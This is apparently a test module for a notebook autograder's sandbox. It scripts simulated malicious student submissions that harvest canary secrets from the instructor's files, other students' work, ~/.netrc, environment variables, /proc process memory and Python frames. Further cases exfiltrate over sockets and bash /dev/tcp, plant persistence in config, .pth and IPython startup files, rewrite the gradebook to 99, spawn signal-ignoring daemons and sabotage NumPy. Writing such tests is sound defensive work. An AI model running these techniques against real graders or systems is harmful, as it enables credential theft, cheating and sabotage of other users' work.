"""Those who reach for what is not theirs: secrets, the network, other people's files, time after the grading."""

from __future__ import annotations

from textwrap import dedent
from typing import Any

from tests.grading.attacks.submission import TESTS_OF, WRONG_REPORT, Attack, add_cell, all_of, replace, text_of

# What thieves have in common: they keep every secret that a text holds, in the notebook and in a file outside.
TAKE = """
import os, re, sys
from pathlib import Path


def take(text):
    for secret in set(re.findall(r"canary-[a-z]+-[0-9a-f]{16}", str(text))):
        print("TAKEN", secret)
        try:
            with open("@loot@/@name@", "a") as file:
                file.write(secret)
        except OSError:
            pass


def take_file(path):
    try:
        take(Path(path).read_bytes().decode("latin-1"))
    except OSError as error:
        print(error)
"""


def reading(name: str, story: str, code: str, **more: Any) -> Attack:
    """Somebody with right answers who looks for secrets first."""
    why = "The answers are right. Nothing secret was there to be found."
    return Attack(name, "reading", story, add_cell(TAKE + dedent(code)), why, **more)


def reading_when_tested(name: str, story: str, code: str) -> Attack:
    """Somebody whose right answer looks for the test that calls it, by its function ``look``."""
    why = "The answers are right. The test was not in the student's process."
    add = "\n\ndef add(a, b):\n    look()\n    return a + b"
    return Attack(name, "reading", story, replace("add", TAKE + dedent(code) + add), why)


def trying(name: str, group: str, story: str, code: str, **more: Any) -> Attack:
    """Somebody with right answers who tries something, and goes on when it fails."""
    why = "The answers are right. The attempt came to nothing."
    attempt = "try:\n" + "\n".join(f"    {line}" for line in dedent(code).strip().splitlines())
    attempt += "\nexcept (OSError, ImportError, RuntimeError) as error:\n    print(error)"
    return Attack(name, group, story, add_cell(attempt), why, **more)


READING = [
    reading(
        "reads-source",
        "Reads the instructor's notebook and its source.",
        """
        for path in ("psx.ipynb", "psx.md"):
            take_file("@assignments@/source/psx/" + path)
        """,
    ),
    reading(
        "reads-own-folder",
        "Reads everything in its working folder, its parents and its module path, where hidden tests may lie.",
        """
        for place in [Path.cwd(), *list(Path.cwd().parents)[:4], *map(Path, sys.path[:1])]:
            try:
                for path in place.glob("*"):
                    if path.is_file() and path.stat().st_size < 10_000_000:
                        take_file(path)
            except OSError as error:
                print(error)
        """,
    ),
    reading(
        "reads-neighbour",
        "Reads another student's submission.",
        "take_file('@assignments@/submitted/zoe/psx/psx.ipynb')",
    ),
    reading("reads-gradebook", "Reads the gradebook, file by file.", "take_file('@assignments@/gradebook.db')"),
    reading("reads-home", "Reads a password from the grader's home folder.", "take_file('@home@/.netrc')"),
    reading("reads-environment", "Reads the grader's token from its own environment.", "take(dict(os.environ))"),
    reading(
        "reads-processes",
        "Reads the environment and the command line of every process, through /proc.",
        """
        for path in [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]:
            take_file(path)
        take_file("/proc/self/maps")
        """,
    ),
    reading(
        "reads-grader-memory",
        "Reads the memory of the process that started it, through /proc/PID/mem.",
        """
        try:
            parent = f"/proc/{os.getppid()}"
            with open(f"{parent}/maps") as maps, open(f"{parent}/mem", "rb", 0) as memory:
                heap = [line for line in maps if "[heap]" in line or "[stack]" in line]
                for line in heap:
                    start, end = (int(number, 16) for number in line.split()[0].split("-"))
                    memory.seek(start)
                    take(memory.read(min(end - start, 200_000_000)).decode("latin-1"))
        except (OSError, ValueError) as error:
            print(error)
        """,
    ),
    reading(
        "reads-open-files",
        "Reads from every file that it inherited open.",
        """
        for number in range(3, 200):
            try:
                name = os.readlink(f"/proc/self/fd/{number}")
                if name.startswith("/") and os.path.isfile(name):
                    take(os.pread(number, 1_000_000, 0).decode("latin-1"))
                    take_file(f"/proc/self/fd/{number}/../../../../assignments/gradebook.db")
            except OSError:
                pass
        """,
    ),
    reading_when_tested(
        "reads-test-frames",
        "Looks, while it is tested, through the frames above it for the test and its source.",
        """
        import linecache


        def look():
            frame = sys._getframe()
            while frame is not None:
                take([frame.f_code.co_consts, frame.f_locals.get("hidden"), frame.f_globals.get("hidden")])
                take(linecache.getlines(frame.f_code.co_filename))
                frame = frame.f_back
        """,
    ),
    reading_when_tested(
        "reads-test-history",
        "Looks, while it is tested, for the test in IPython's history, the line cache and the main module.",
        """
        import linecache


        def look():
            take(linecache.cache)
            take(globals().get("In"))
            take(vars(sys.modules["__main__"]).get("hidden"))
        """,
    ),
    reading_when_tested(
        "reads-all-objects",
        "Looks, while it is tested, for the test in every object that the garbage collector knows.",
        """
        import gc


        def look():
            for thing in gc.get_objects():
                if type(thing) in (dict, list, tuple) and len(thing) < 2000:
                    texts = list(thing.values()) if type(thing) is dict else list(thing)
                    take([text for text in texts if type(text) is str and "canary-" in text])
        """,
    ),
    reading_when_tested(
        "reads-by-audit-hook",
        "Adds an audit hook, which is told of every text that is compiled.",
        """
        sys.addaudithook(lambda event, arguments: take(arguments[0]) if event == "compile" else None)


        def look():
            pass
        """,
    ),
    reading(
        "link-to-gradebook",
        "Hands in a symbolic link to the gradebook and one to the course, and reads through them.",
        """
        for path in ("notes.txt", "course/source/psx/psx.ipynb", "course/gradebook.db"):
            take_file(path)
        """,
        files={"notes.txt": "@assignments@/gradebook.db", "course": "@assignments@"},
    ),
    Attack(
        "link-to-neighbour",
        "reading",
        "Hands in, instead of a notebook, a symbolic link to another student's.",
        text_of,
        "A link is not work of one's own, and following it would show a neighbour's notebook.",
        all_of(*TESTS_OF),
        error=True,
        files={"psx.ipynb": "@assignments@/submitted/zoe/psx/psx.ipynb"},
    ),
]
NETWORK = [
    trying(
        "network-tcp",
        "network",
        "Sends a message by TCP.",
        """
        import socket

        with socket.create_connection(("127.0.0.1", @tcp@), timeout=2) as outside:
            outside.sendall(b"psx @name@")
        """,
    ),
    trying(
        "network-udp",
        "network",
        "Sends a message by UDP.",
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
            outside.sendto(b"psx @name@", ("127.0.0.1", @udp@))
        """,
    ),
    trying(
        "network-unix",
        "network",
        "Sends a message by a Unix socket that lies in the file system.",
        """
        import socket

        with socket.socket(socket.AF_UNIX) as outside:
            outside.connect("@unix@")
            outside.sendall(b"psx @name@")
        """,
    ),
    trying(
        "network-abstract",
        "network",
        "Sends a message by a Unix socket that has no path.",
        """
        import socket

        with socket.socket(socket.AF_UNIX) as outside:
            outside.connect(chr(0) + "@abstract@")
            outside.sendall(b"psx @name@")
        """,
    ),
    trying(
        "network-child",
        "network",
        "Has another program, bash, send a message by TCP.",
        """
        import subprocess

        print(subprocess.run(["bash", "-c", "echo psx @name@ > /dev/tcp/127.0.0.1/@tcp@"], timeout=5).returncode)
        """,
    ),
]

WRITING = [
    trying(
        "writes-config",
        "writing",
        "Adds to `nbgrader_config.py`, which the grader runs as code the next time.",
        """
        with open("@assignments@/nbgrader_config.py", "a") as file:
            file.write("\\n# psx @name@ was here\\n")
        """,
    ),
    trying(
        "writes-site-packages",
        "writing",
        "Puts a `.pth` file, which every Python runs at its start, into site-packages.",
        """
        with open("@site@/psx-left-@name@.pth", "w") as file:
            file.write("# psx\\n")
        """,
    ),
    trying(
        "writes-startup",
        "writing",
        "Puts a start-up file into the grader's IPython profile, for every later kernel.",
        """
        import os

        os.makedirs("@home@/.ipython/profile_default/startup", exist_ok=True)
        with open("@home@/.ipython/profile_default/startup/psx-@name@.py", "w") as file:
            file.write("# psx\\n")
        """,
    ),
    trying(
        "writes-source",
        "writing",
        "Changes the instructor's notebook.",
        """
        with open("@assignments@/source/psx/psx.ipynb", "a") as file:
            file.write("\\n")
        """,
    ),
    trying(
        "writes-neighbour",
        "writing",
        "Empties another student's submission.",
        """
        import os

        os.truncate("@assignments@/submitted/zoe/psx/psx.ipynb", 0)
        """,
    ),
    trying(
        "writes-gradebook",
        "writing",
        "Gives everybody 99 points in the gradebook.",
        """
        import sqlite3

        try:
            with sqlite3.connect("file:@assignments@/gradebook.db?mode=rw", uri=True) as database:
                database.execute("UPDATE grade SET manual_score = 99")
        except sqlite3.Error as error:
            print(error)
        """,
    ),
    trying(
        "plants-trigger",
        "writing",
        "Plants a trigger in the gradebook that turns every later mark into 99.",
        """
        import sqlite3

        try:
            with sqlite3.connect("file:@assignments@/gradebook.db?mode=rw", uri=True) as database:
                database.execute(
                    "CREATE TRIGGER psx AFTER UPDATE OF auto_score ON grade"
                    " BEGIN UPDATE grade SET manual_score = 99 WHERE id = NEW.id; END"
                )
        except sqlite3.Error as error:
            print(error)
        """,
    ),
    trying(
        "holds-database",
        "writing",
        "Leaves a process behind that holds the gradebook locked for 20 seconds.",
        """
        import os, subprocess, sys, time

        code = "import sqlite3, sys, time; d = sqlite3.connect('file:@assignments@/gradebook.db?mode=rw', uri=True, isolation_level=None); d.execute('BEGIN EXCLUSIVE'); print(1, flush=True); time.sleep(20)"
        child = subprocess.Popen([sys.executable, "-c", code, "psx-left-@name@"], stdout=subprocess.PIPE, start_new_session=True)
        child.stdout.readline()
        """,
    ),
    trying(
        "links-its-output",
        "writing",
        "Replaces its own graded notebook, while it is graded, by a link to the neighbour's submission.",
        """
        import os

        for place in (".", "@assignments@/autograded/@name@/psx"):
            if os.path.exists(f"{place}/psx.ipynb"):
                os.remove(f"{place}/psx.ipynb")
                os.symlink("@assignments@/submitted/zoe/psx/psx.ipynb", f"{place}/psx.ipynb")
                break
        """,
    ),
]

STAYING = [
    trying(
        "daemon",
        "staying",
        "Starts a daemon, twice forked and in a session of its own, that outlives the kernel.",
        """
        import os, sys

        child = os.fork()
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "psx-left-@name@"])
            os._exit(0)
        os.waitpid(child, 0)
        """,
    ),
    trying(
        "daemon-ignores-signals",
        "staying",
        "Starts a program that ignores every signal it can, and writes a file a while after the grading.",
        """
        import subprocess, sys

        code = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 3, 15)]; time.sleep(8); open('@loot@/@name@', 'w').write('late')"
        subprocess.Popen([sys.executable, "-c", code, "psx-left-@name@"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """,
    ),
    trying(
        "leaves-files",
        "staying",
        "Leaves files for the next student in /tmp, /var/tmp and /dev/shm.",
        """
        from pathlib import Path

        for place in ("/tmp", "/var/tmp", "/dev/shm"):
            Path(place, "psx-left-@name@").write_text("the answers are ...")
        """,
    ),
    Attack(
        "patches-for-the-next",
        "staying",
        "Replaces NumPy's comparisons and leaves the process as it is, for the next student in it.",
        replace(
            "report",
            """
            import builtins, gc

            for module in (np, np.testing):
                for name in ("allclose", "array_equal", "assert_allclose"):
                    if hasattr(module, name):
                        setattr(module, name, None)
            gc.disable()
            builtins.sum = builtins.len = builtins.abs = None
            """
            + WRONG_REPORT,
        ),
        "The last answer is wrong. Nobody else may notice.",
        all_of("report"),
    ),
]
